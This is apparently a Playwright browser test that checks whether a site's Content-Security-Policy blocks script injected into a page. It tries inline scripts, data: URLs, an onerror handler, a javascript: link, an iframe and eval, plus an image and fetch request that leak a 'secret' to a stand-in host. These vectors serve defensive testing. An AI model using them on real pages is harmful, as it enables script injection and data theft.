"""The site's Content-Security-Policy in a browser: what got into a page in spite of all can do nothing."""

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Watch
from tests.browser.playgrounds import free_playground

INTRUDER = """() => {
    const add = (tag, set) => { const made = document.createElement(tag); set(made); document.body.append(made); };
    add('script', made => { made.textContent = "document.title = 'inline script'"; });
    add('script', made => { made.src = 'data:text/javascript,document.title="script from data"'; });
    add('img', made => { made.setAttribute('onerror', "document.title = 'handler'"); made.src = 'data:image/png,no'; });
    add('a', made => { made.href = "javascript:document.title = 'address'"; made.click(); });
    add('iframe', made => { made.src = 'data:text/html,<script>parent.document.title = "frame"</script>'; });
    setTimeout(() => {
        try { document.title = eval("'eval'"); } catch (error) { document.body.dataset.refused = error.name; }
    });
}"""
LEAKS = """async () => {
    const { href } = new URL('http://elsewhere.example/?secret');
    const blocked = new Set();
    const both = new Promise(done => document.addEventListener('securitypolicyviolation', event => {
        if (blocked.add(event.effectiveDirective).size === 2) done();
    }));
    const image = new Image();
    const drawn = new Promise(done => { image.onload = () => done('drawn'); image.onerror = () => done('refused'); });
    image.src = href;
    const fetched = fetch(href, { mode: 'no-cors' }).then(() => 'fetched', () => 'refused');
    await Promise.all([drawn, fetched, both]);
    return [...blocked].sort();
}"""


@pytest.mark.console_errors
@pytest.mark.offsite
def test_what_got_into_the_page_can_neither_run_nor_tell(page: Page, watch: Watch) -> None:
    pane = free_playground(page)
    assert not watch.errors, "the policy stops nothing that the playground does"
    title = page.title()

    page.evaluate(INTRUDER)
    expect(page.locator("body")).to_have_attribute("data-refused", "EvalError")
    assert page.evaluate(LEAKS) == ["connect-src", "img-src"]

    assert page.title() == title
    pane.button("Run").click()
    pane.expect_runs(1)
